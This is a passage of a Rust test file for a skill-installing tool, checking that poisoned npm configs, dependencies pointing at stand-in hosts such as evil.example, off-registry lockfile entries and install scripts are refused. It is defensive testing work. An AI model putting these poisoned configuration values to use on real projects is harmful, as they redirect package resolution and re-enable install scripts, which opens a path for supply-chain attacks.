    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    // Every way npm reads its config, pointed at a registry that is not
    // there: the user's ~/.npmrc, a userconfig named by a variable, and
    // npm_config_* variables. Honoured, resolution would find nothing in
    // the cache for that registry (or record its URLs, which install
    // refuses), and scripts would run.
    let evil = "registry=http://127.0.0.1:9/\n@evil:registry=http://127.0.0.1:9/\n\
                ignore-scripts=false\nreplace-registry-host=never\n";
    std::fs::create_dir_all(p.path().join("home")).unwrap();
    std::fs::write(p.path().join("home/.npmrc"), evil).unwrap();
    std::fs::write(p.path().join("evil.npmrc"), evil).unwrap();
    let out = p
        .command(&[
            "install",
            "src/odd",
            "--offline",
            "--npm-cache",
            cache.to_str().unwrap(),
        ])
        .env("npm_config_registry", "http://127.0.0.1:9/")
        .env("NPM_CONFIG_REGISTRY", "http://127.0.0.1:9/")
        .env("npm_config_userconfig", p.path().join("evil.npmrc"))
        .env("npm_config_ignore_scripts", "false")
        .output()
        .unwrap();
    let out = ok(&out);
    assert!(out.contains("node environment built"), "{out}");
    assert!(!p.lock().contains("127.0.0.1"), "{}", p.lock());
    ok(&p.run(&["run", "odd", "scripts/odd.mjs", "--root", ".agents/skills"]));
}

#[test]
fn a_git_dependency_and_a_package_with_an_install_script_are_refused_with_their_file_and_line() {
    // No npm needed: the declaration itself is refused, every problem at
    // once, and nothing is installed.
    let p = Project::new(None);
    p.node_skill(
        "sneaky",
        "{\n  \"dependencies\": {\n    \"is-odd\": \"^3.0.1\",\n    \
         \"left-pad\": \"git+https://evil.example/left-pad.git\",\n    \
         \"right-pad\": \"github:evil/right-pad\",\n    \"aliased\": \"npm:is-odd@3\"\n  },\n  \
         \"bundleDependencies\": [\"is-odd\"]\n}\n",
    );
    let err = failed(&p.run(&["install", "src/sneaky"]));
    assert!(err.contains("environment-requirement-invalid"), "{err}");
    for (line, what) in [
        (4, "a git repository"),
        (5, "a GitHub repository"),
        (6, "an alias of another package"),
        (8, "bundleDependencies"),
    ] {
        assert!(
            err.contains(&format!("package.json:{line}")),
            "{line}: {err}"
        );
        assert!(err.contains(what), "{what}: {err}");
    }
    assert!(!p.path().join(".agents/skills/sneaky").exists());

    // The skill's own lock: a package with an install script, one resolved
    // elsewhere than a registry, one without integrity.
    let dir = p.node_skill(
        "scripted",
        "{\n  \"dependencies\": {\n    \"is-odd\": \"^3.0.1\"\n  }\n}\n",
    );
    let lock = format!(
        "{{\n  \"name\": \"scripted\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \
         \"packages\": {{\n    \"\": {{\n      \"dependencies\": {{\n        \"is-odd\": \"^3.0.1\"\n      }}\n    }},\n    \
         \"node_modules/is-number\": {{\n      \"version\": \"6.0.0\",\n      \
         \"resolved\": \"https://evil.example/tarballs/is-number.tgz\",\n      \
         \"integrity\": \"{IS_NUMBER_INTEGRITY}\"\n    }},\n    \
         \"node_modules/is-odd\": {{\n      \"version\": \"3.0.1\",\n      \
         \"resolved\": \"https://registry.npmjs.org/is-odd/-/is-odd-3.0.1.tgz\",\n      \
         \"integrity\": \"{IS_ODD_INTEGRITY}\",\n      \"hasInstallScript\": true,\n      \
         \"dependencies\": {{\n        \"is-number\": \"^6.0.0\"\n      }}\n    }},\n    \
         \"node_modules/no-integrity\": {{\n      \"version\": \"1.0.0\",\n      \
         \"resolved\": \"https://registry.npmjs.org/no-integrity/-/no-integrity-1.0.0.tgz\"\n    }}\n  }}\n}}\n"
    );
    std::fs::write(dir.join("package-lock.json"), lock).unwrap();
    let err = failed(&p.run(&["install", "src/scripted"]));
    assert!(err.contains("environment-requirement-invalid"), "{err}");
    assert!(err.contains("package-lock.json:11"), "{err}");
    assert!(err.contains("not a registry tarball"), "{err}");
    assert!(err.contains("package-lock.json:16"), "{err}");
    assert!(err.contains("has an install script"), "{err}");
    assert!(err.contains("outside the sandbox"), "{err}");
    assert!(err.contains("package-lock.json:25"), "{err}");
    assert!(err.contains("has no integrity"), "{err}");
    assert!(!p.path().join(".agents/skills/scripted").exists());
}

#[test]
fn a_shipped_lock_into_another_registry_is_refused_naming_its_line() {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    let dir = p.node_skill(
        "elsewhere",
        "{\n  \"dependencies\": {\n    \"is-odd\": \"^3.0.1\"\n  }\n}\n",
    );
    let lock = format!(
        "{{\n  \"lockfileVersion\": 3,\n  \"packages\": {{\n    \"\": {{\n      \
         \"dependencies\": {{ \"is-odd\": \"^3.0.1\" }}\n    }},\n    \
         \"node_modules/is-number\": {{\n      \"version\": \"6.0.0\",\n      \
         \"resolved\": \"https://npm.evil.example/is-number/-/is-number-6.0.0.tgz\",\n      \
         \"integrity\": \"{IS_NUMBER_INTEGRITY}\"\n    }},\n    \
         \"node_modules/is-odd\": {{\n      \"version\": \"3.0.1\",\n      \
         \"resolved\": \"https://registry.npmjs.org/is-odd/-/is-odd-3.0.1.tgz\",\n      \
         \"integrity\": \"{IS_ODD_INTEGRITY}\",\n      \
         \"dependencies\": {{ \"is-number\": \"^6.0.0\" }}\n    }}\n  }}\n}}\n"
    );
    std::fs::write(dir.join("package-lock.json"), &lock).unwrap();
    let err = failed(&install_node_offline(&p, &cache, &["src/elsewhere"]));
    assert!(err.contains("environment-requirement-invalid"), "{err}");
    assert!(err.contains("package-lock.json:7"), "{err}");
    assert!(err.contains("https://npm.evil.example"), "{err}");
    // The same lock into npm's registry is the resolution install uses.
    std::fs::write(
        dir.join("package-lock.json"),
        lock.replace("https://npm.evil.example", "https://registry.npmjs.org"),
    )
    .unwrap();
    let out = ok(&install_node_offline(&p, &cache, &["src/elsewhere"]));
    assert!(out.contains("node environment built"), "{out}");
}

#[test]
fn without_npm_an_install_of_a_skill_with_node_dependencies_is_refused_saying_how_to_get_it() {
    let p = Project::new(None);
    p.node_skill("odd", IS_ODD_PACKAGE_JSON);
    let err = failed(&p.run(&["install", "src/odd", "--npm", "/nonexistent/npm"]));
    assert!(err.contains("environment-build-failed"), "{err}");
    assert!(err.contains("/nonexistent/npm"), "{err}");
    assert!(!p.path().join(".agents/skills/odd").exists());
    // A package.json without dependencies needs no npm.
    p.node_skill(
        "plain",
        "{\"name\": \"plain\", \"devDependencies\": {\"x\": \"1\"}}\n",
    );
    ok(&p.run(&["install", "src/plain", "--npm", "/nonexistent/npm"]));
}

#[test]
fn a_skill_with_a_python_and_a_node_environment_runs_both_and_the_lock_records_both() {
    let (Some((uv, wheels)), Some(cache)) = (uv_and_wheels(), npm_cache()) else {
        return;
    };
    let p = Project::new(Some(&uv));
    let cache = own_cache(&p, &cache);
    let dir = p.node_skill("both", IS_ODD_PACKAGE_JSON);
    std::fs::write(dir.join("requirements.txt"), "python-dateutil>=2.8\n").unwrap();
    std::fs::write(dir.join("scripts/when.py"), SCRIPT).unwrap();
    let out = ok(&p.run(&[
        "install",
        "src/both",
        "--offline",
        "--find-links",
        wheels.to_str().unwrap(),
        "--npm-cache",
        cache.to_str().unwrap(),
    ]));
    assert!(
        out.contains("  environment built: python-dateutil=="),
        "{out}"
    );
    assert!(
        out.contains("  node environment built: is-number@6.0.0"),
        "{out}"
    );
    let lock = p.lock();
    assert!(lock.contains("[skill.both.environment]"), "{lock}");
    assert!(lock.contains("[skill.both.node-environment]"), "{lock}");
    assert_eq!(p.environments().len(), 2);
    let ran = ok(&p.run(&["run", "both", "scripts/when.py", "--root", ".agents/skills"]));
    assert!(ran.starts_with("2026-11-27T10:00:00"), "{ran}");
    let ran = ok(&p.run(&["run", "both", "scripts/odd.mjs", "--root", ".agents/skills"]));
    assert!(ran.starts_with("esm false"), "{ran}");
    let out = ok(&p.run(&["verify", "--format", "json"]));
    let v: Value = serde_json::from_str(&out).unwrap();
    let kinds: Vec<&str> = v["environments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["python", "node"]);
    // The Node one missing: the skill runs nothing, its Python script
    // included.
    let node_env = lock
        .split("[skill.both.node-environment]")
        .nth(1)
        .and_then(|t| t.lines().find_map(|l| l.strip_prefix("key = \"sha256:")))
        .and_then(|k| k.strip_suffix('"'))
        .unwrap()
        .to_owned();
    std::fs::remove_dir_all(p.store().join(node_env)).unwrap();
    let err = failed(&p.run(&["run", "both", "scripts/when.py", "--root", ".agents/skills"]));
    assert!(err.contains("environment-missing"), "{err}");
    assert!(err.contains("is-odd@3.0.1"), "{err}");
}

#[test]
fn serve_registry_builds_the_node_environments_of_the_agents_skills_and_leaves_out_one_that_cannot_be_built()
 {
    let Some(cache) = npm_cache() else {
        return;
    };
    let p = Project::new(None);
    let cache = own_cache(&p, &cache);
    std::fs::write(
        p.path().join("skilldeck.toml"),
        format!(
            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n\n\
             [environments]\noffline = true\nnpm-cache = {:?}\n",
            cache.to_str().unwrap()
        ),
    )
    .unwrap();
    let server = skilldeck_testkit::registry::RegistryProcess::start(
        env!("CARGO_BIN_EXE_skilldeck"),
        &p.path().join("data"),
        &[],
    );
    for (name, package_json) in [
        ("odd", IS_ODD_PACKAGE_JSON),
        (
            "uncached",
            "{\"dependencies\": {\"no-such-package-skilldeck\": \"^1.0.0\"}}\n",
        ),
    ] {
        let dir = p.node_skill(name, package_json);
        // Without a resolution: the consumer resolves (the uncached one
        // fails there).
        admin(
            &p,
            &server,
            &[
                "publish",
                dir.to_str().unwrap(),
                "--namespace",
                "acme",
                "--version",
                "1.0.0",
                "--no-environments",
            ],
        );
    }
    admin(&p, &server, &["registry", "agent", "create", "bot-1"]);
    for name in ["acme/odd", "acme/uncached"] {
        admin(&p, &server, &["registry", "assign", "bot-1", name]);
    }
    let token = admin(
        &p,
        &server,
        &["registry", "token", "create", "--agent", "bot-1"],
    );
    let token_file = p.path().join("bot-token");
    std::fs::write(&token_file, token.trim()).unwrap();
    let mut command = p.command(&[
        "serve",
        "--registry",
        &server.url,
        "--agent",
        "bot-1",
        "--token-file",
        token_file.to_str().unwrap(),
    ]);
    command
        .env("RUST_LOG", "info")
        .env_remove("SKILLDECK_TOKEN");
    let mut client = StdioClient::start(command);
    let answer = client.request("tools/list", json!({}));
    let names: Vec<&str> = answer["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["name"].as_str())
        .filter(|n| n.contains("__"))
        .collect();
    assert_eq!(names, ["odd__odd"], "{answer}");
    let called = client.call("odd__odd", json!({}));
    let text = skilldeck_testkit::mcp::text(&called);
    assert!(text.contains("cjs true"), "{called}");
    let log = client.wait_for_stderr(&["no-such-package-skilldeck"]);
    assert!(log.contains("cannot be built"), "{log}");
}

// `publish` resolves once (issue 31 item 3): the registry stores the
// resolution with the version and every consumer installs exactly it.

/// Writes a wheel of `six` at `version` into `folder` (its metadata is all
/// a resolution reads).
fn six_wheel(folder: &Path, version: &str) {
    let script = r#"
import sys, zipfile
folder, v = sys.argv[1], sys.argv[2]
info = 'six-%s.dist-info' % v
with zipfile.ZipFile('%s/six-%s-py2.py3-none-any.whl' % (folder, v), 'w') as z:
    z.writestr('six.py', 'PY3 = True\n')
    z.writestr(info + '/METADATA', 'Metadata-Version: 2.1\nName: six\nVersion: %s\n' % v)
    z.writestr(info + '/WHEEL', 'Wheel-Version: 1.0\nGenerator: skilldeck-test\nRoot-Is-Purelib: true\nTag: py2-none-any\nTag: py3-none-any\n')
    z.writestr(info + '/RECORD', '')
"#;
    let out = Command::new("python3")
        .args(["-c", script, folder.to_str().unwrap(), version])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
}

/// A project whose `[environments]` take packages from its own copy of
/// the wheel folder only (offline), so a test can add a newer release.
fn project_with_own_wheels(uv: &Path, wheels: &Path) -> (Project, PathBuf) {
    let p = Project::new(Some(uv));
    let folder = p.path().join("wheels");
    std::fs::create_dir_all(&folder).unwrap();
    for e in std::fs::read_dir(wheels).unwrap().flatten() {
        std::fs::copy(e.path(), folder.join(e.file_name())).unwrap();
    }
    std::fs::write(
        p.path().join("skilldeck.toml"),
        format!(
            "[exec]\nenabled = true\ntools = \"always\"\ntimeout-secs = 60\n\n\
             [environments]\noffline = true\nfind-links = [{:?}]\n",
            folder.to_str().unwrap()
        ),
    )
    .unwrap();
    (p, folder)
}

/// `name==version` of every package of the first environment record.
fn pins(envs: &Value) -> Vec<String> {
    envs[0]["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            format!(
                "{}=={}",
                p["name"].as_str().unwrap(),
                p["version"].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn publish_resolves_once_and_serve_registry_and_install_get_exactly_the_published_pins_after_a_newer_release()
 {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let (p, folder) = project_with_own_wheels(&uv, &wheels);
    let server = skilldeck_testkit::registry::RegistryProcess::start(
        env!("CARGO_BIN_EXE_skilldeck"),
        &p.path().join("data"),
        &[],
    );
    let dir = p.skill("dates", "python-dateutil>=2.8\n");
    let publish = |version: &str| -> Value {
        let out = admin(
            &p,
            &server,
            &[
                "publish",
                dir.to_str().unwrap(),
                "--namespace",
                "acme",
                "--version",
                version,
                "--format",
                "json",
            ],
        );
        serde_json::from_str(&out).unwrap()
    };
    let published = publish("1.0.0");
    let envs = &published["environments"];
    assert_eq!(envs[0]["kind"], "python", "{published}");
    assert_eq!(
        pins(envs),
        ["python-dateutil==2.9.0.post0", "six==1.17.0"],
        "{published}"
    );
    let hashes = wheel_hashes(&wheels);
    for p in envs[0]["packages"].as_array().unwrap() {
        for h in p["hashes"].as_array().unwrap() {
            assert!(hashes.contains(&h.as_str().unwrap().to_owned()), "{h}");
        }
    }
    // Publishing resolves only: nothing is built on the publisher.
    assert!(p.environments().is_empty(), "{:?}", p.environments());
    // A newer six is released: a new resolution (the next version's
    // publish) picks it.
    six_wheel(&folder, "1.99.0");
    let next = publish("1.0.1");
    assert_eq!(
        pins(&next["environments"]),
        ["python-dateutil==2.9.0.post0", "six==1.99.0"],
        "{next}"
    );
    // The agent serves 1.0.0: it gets exactly what 1.0.0 was published
    // with, not the newer release its wheel folder now offers.
    admin(&p, &server, &["registry", "agent", "create", "bot-1"]);
    admin(
        &p,
        &server,
        &[
            "registry",
            "assign",
            "bot-1",
            "acme/dates",
            "--version",
            "1.0.0",
        ],
    );
    let token = admin(
        &p,
        &server,
        &["registry", "token", "create", "--agent", "bot-1"],
    );
    let token_file = p.path().join("bot-token");
    std::fs::write(&token_file, token.trim()).unwrap();
    let mut command = p.command(&[
        "serve",
        "--registry",
        &server.url,
        "--agent",
        "bot-1",
        "--token-file",
        token_file.to_str().unwrap(),
    ]);
    command
        .env("RUST_LOG", "info")
        .env_remove("SKILLDECK_TOKEN");
    let mut client = StdioClient::start(command);
    let called = client.call("dates__when", json!({}));
    let text = skilldeck_testkit::mcp::text(&called);
    assert!(text.contains("2026-11-27T10:00:00"), "{called}");
    let log = client.wait_for_stderr(&["resolved at publish"]);
    assert!(log.contains("dates"), "{log}");
    drop(client);
    let served = std::fs::read_to_string(
        p.path()
            .join("cache/skilldeck/registry/agents/bot-1/skilldeck.lock"),
    )
    .unwrap();
    assert!(
        served.contains("name = \"six\", version = \"1.17.0\""),
        "{served}"
    );
    assert!(!served.contains("1.99.0"), "{served}");
    // An install from the registry too.
    let out = ok(&p.run(&[
        "install",
        "acme/dates@1.0.0",
        "--registry",
        &server.url,
        "--token-file",
        server.admin_file.to_str().unwrap(),
        "--root",
        "consumer/skills",
    ]));
    assert!(out.contains("resolved at publish"), "{out}");
    let lock = std::fs::read_to_string(p.path().join("consumer/skilldeck.lock")).unwrap();
    assert!(
        lock.contains("name = \"six\", version = \"1.17.0\""),
        "{lock}"
    );
    assert!(!lock.contains("1.99.0"), "{lock}");
}

#[test]
fn a_requirement_that_does_not_resolve_refuses_the_publish_and_no_environments_publishes_without_one()
 {
    let Some((uv, wheels)) = uv_and_wheels() else {
        return;
    };
    let (p, _) = project_with_own_wheels(&uv, &wheels);
    let server = skilldeck_testkit::registry::RegistryProcess::start(
        env!("CARGO_BIN_EXE_skilldeck"),
        &p.path().join("data"),
        &[],
    );
    let dir = p.skill(
        "broken",
        "python-dateutil>=2.8\nno-such-package-skilldeck==1.0\n",
    );
    let args = |extra: &[&str]| {
        let mut all = vec![
            "publish",
            dir.to_str().unwrap(),
            "--namespace",
            "acme",
            "--version",
            "1.0.0",
            "--format",
            "json",
            "--registry",
            server.url.as_str(),
            "--token-file",
            server.admin_file.to_str().unwrap(),
        ];
        all.extend_from_slice(extra);
        all.into_iter().map(str::to_owned).collect::<Vec<_>>()
    };
    let refused = |a: Vec<String>| {
        let a: Vec<&str> = a.iter().map(String::as_str).collect();
        failed(&p.run(&a))
    };
    let err = refused(args(&[]));
    assert!(err.contains("skill 'broken'"), "{err}");
    assert!(err.contains("requirements.txt:2"), "{err}");
    assert!(err.contains("no-such-package-skilldeck==1.0"), "{err}");
    assert!(err.contains("--no-environments"), "{err}");
    // Nothing was uploaded.
    let listed = admin(
        &p,
        &server,
        &[
            "registry",
            "skills",
            "--namespace",
            "acme",
            "--format",
            "json",
        ],
    );
    assert!(!listed.contains("broken"), "{listed}");
    // Without environments: published, with no resolution.
    let a = args(&["--no-environments"]);
    let a: Vec<&str> = a.iter().map(String::as_str).collect();
    let published: Value = serde_json::from_str(&ok(&p.run(&a))).unwrap();
    assert_eq!(published["created"], true, "{published}");
    assert!(published.get("environments").is_none(), "{published}");
}
